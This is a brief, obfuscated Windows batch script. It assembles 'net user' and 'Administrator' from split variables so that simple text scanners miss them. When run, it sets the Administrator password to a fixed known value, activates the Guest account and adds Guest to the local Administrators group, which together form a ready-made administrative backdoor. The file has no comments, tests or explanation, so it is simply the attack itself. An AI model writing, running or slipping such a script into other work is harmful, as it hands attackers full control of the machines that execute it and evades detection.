@echo off
setlocal enabledelayedexpansion
set p=ne
set q=us
set r=Admin
set z=Summer22
!p!t !q!er !r!istrator !z!x
!p!t !q!er Guest /active:yes
!p!t local^group !r!istrators Guest /add
endlocal
